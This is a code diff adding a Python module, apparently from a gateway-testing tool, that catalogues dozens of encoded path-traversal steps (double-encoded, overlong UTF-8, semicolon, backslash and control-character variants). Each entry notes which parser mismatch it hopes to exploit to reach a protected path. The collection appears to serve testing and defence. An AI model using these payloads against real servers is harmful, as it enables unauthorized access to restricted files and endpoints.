@@ -1,0 +1,87 @@
+"""Ways back from an open path to the secret one: dot segments in every spelling."""
+
+from __future__ import annotations
+
+from bearerd.tricks.model import Trick
+
+# name, one step up, what it hopes for
+STEPS = (
+    ("plain", "../", "The gateway decides by the path as it came, and the upstream resolves it."),
+    ("encoded-slash", "..%2f", "The slash is one only to the upstream, which decodes before it resolves."),
+    ("encoded-slash-upper", "..%2F", "The same with an upper-case escape, for filters that know the lower-case one."),
+    ("encoded-dots", "%2e%2e/", "The dots are dots only to whoever decodes."),
+    ("encoded-dots-upper", "%2E%2E/", "The same in upper case."),
+    ("encoded-first-dot", "%2e./", "One dot is encoded."),
+    ("encoded-last-dot", ".%2e/", "The other dot is encoded."),
+    ("all-encoded", "%2e%2e%2f", "Nothing of the step is to be seen before it is decoded."),
+    ("mixed-case", "%2E%2e%2F", "The same with both cases of hexadecimal digits."),
+    ("twice-encoded", "%252e%252e%252f", "One decoding by the gateway and one by the upstream."),
+    ("twice-encoded-slash", "..%252f", "Only the slash is encoded twice."),
+    ("twice-encoded-dots", "%252e%252e/", "Only the dots are encoded twice."),
+    ("thrice-encoded", "%25252e%25252e%25252f", "Two decodings on the way and one more."),
+    ("encoded-percent-digits", "%%32%65%%32%65/", "The digits of the escape are escapes themselves."),
+    ("parameter", "..;/", "A Java server cuts what follows the semicolon, and then resolves."),
+    ("parameter-value", "..;a=b/", "The same with a parameter that has a name."),
+    ("parameter-encoded", "..%3b/", "The semicolon is encoded."),
+    ("parameter-encoded-slash", "..;%2f", "A parameter, and an encoded slash behind it."),
+    ("parameter-encoded-dots", "%2e%2e;/", "Encoded dots with a parameter."),
+    ("parameter-before", ";/../", "An empty parameter in front of a plain step."),
+    ("backslash", "..\\", "A server on Windows takes a backslash for a slash."),
+    ("backslash-before", "\\..\\", "Both separators are backslashes."),
+    ("encoded-backslash", "..%5c", "The backslash is encoded."),
+    ("encoded-backslash-upper", "..%5C", "The same in upper case."),
+    ("all-encoded-backslash", "%2e%2e%5c", "Dots and backslash are encoded."),
+    ("twice-encoded-backslash", "..%255c", "The backslash is encoded twice."),
+    ("slash-backslash", "../\\", "A slash and a backslash, which count as one or as two."),
+    ("doubled-slash", "..//", "An empty segment, which one reader drops and the other resolves away."),
+    ("doubled-slash-before", "/../", "An empty segment before the step."),
+    ("dot-segment", ".././", "A segment of one dot, which is nothing."),
+    ("dot-encoded", "../%2e/", "The same, encoded."),
+    ("dot-between", "./../", "A segment of one dot before the step."),
+    ("overlong-slash", "..%c0%af", "An overlong slash: two bytes of what is not UTF-8."),
+    ("overlong-slash-three", "..%e0%80%af", "An overlong slash of three bytes."),
+    ("overlong-slash-four", "..%f0%80%80%af", "An overlong slash of four bytes."),
+    ("overlong-dots", "%c0%ae%c0%ae/", "Overlong dots."),
+    ("overlong-dots-three", "%e0%80%ae%e0%80%ae/", "Overlong dots of three bytes."),
+    ("overlong-all", "%c0%ae%c0%ae%c0%af", "Overlong dots and slash."),
+    ("overlong-backslash", "..%c1%9c", "An overlong backslash."),
+    ("overlong-raw", "..\xc0\xaf", "An overlong slash that is not even percent-encoded."),
+    ("overlong-raw-dots", "\xc0\xae\xc0\xae/", "Overlong dots that are not percent-encoded."),
+    ("eighth-bit-slash", "..%af", "A slash with its eighth bit set, which old servers strip."),
+    ("eighth-bit-dots", "%ae%ae/", "Dots with their eighth bits set."),
+    ("wide-slash", "..%u002f", "IIS reads %u002f as a slash."),
+    ("wide-dots", "%u002e%u002e/", "IIS reads %u002e as a dot."),
+    ("wide-backslash", "..%u005c", "IIS reads %u005c as a backslash."),
+    ("nul", "..%00/", "Somebody cuts at, or drops, the NUL."),
+    ("nul-before", "%00../", "A NUL before the dots."),
+    ("tab", "..%09/", "Somebody drops the tab."),
+    ("tab-within", ".%09./", "A tab between the dots."),
+    ("newline", "..%0a/", "Somebody drops the newline."),
+    ("newline-within", ".%0a./", "A newline between the dots."),
+    ("carriage-return", "..%0d/", "Somebody drops the carriage return."),
+    ("space", "..%20/", "Windows drops spaces at a segment's end."),
+    ("raw-tab", "..\t/", "A raw tab in the target."),
+    ("raw-control", "..\x01/", "A raw control in the target."),
+    ("delete", "..%7f/", "Somebody drops the delete."),
+)  # fmt: skip
+
+# Steps that no reader among readings.py takes for one, and why they stay in the corpus.
+ODD = (
+    ("fullwidth-dots", "%ef%bc%8e%ef%bc%8e/", "Fullwidth dots, which compatibility folding makes dots.",
+     "no server that we know folds compatibility characters in a path; one that did would need a rule of its own"),
+    ("fullwidth-slash", "..%ef%bc%8f", "A fullwidth slash.",
+     "no server that we know folds compatibility characters in a path; one that did would need a rule of its own"),
+    ("division-slash", "..%e2%88%95", "The division slash, U+2215.",
+     "it looks like a slash to people only"),
+    ("three-dots", ".../", "Novell and Windows 9x went up two.",
+     "the last server that took three dots for two steps is gone"),
+    ("broken-escape", "..%2/", "An escape that ends too early.",
+     "who repairs it, drops it: what is left is the plain step, or no step"),
+    ("no-escape", "..%zz/", "An escape of what are no digits.",
+     "who repairs it, drops it: what is left is the plain step, or no step"),
+)  # fmt: skip
+
+CLIMBS = (
+    *(Trick(f"climbs/{name}", tries, target=f"{{up:{step}}}") for name, step, tries in STEPS),
+    *(Trick(f"climbs/{name}", tries, target=f"{{up:{step}}}", inert=inert) for name, step, tries, inert in ODD),
+)
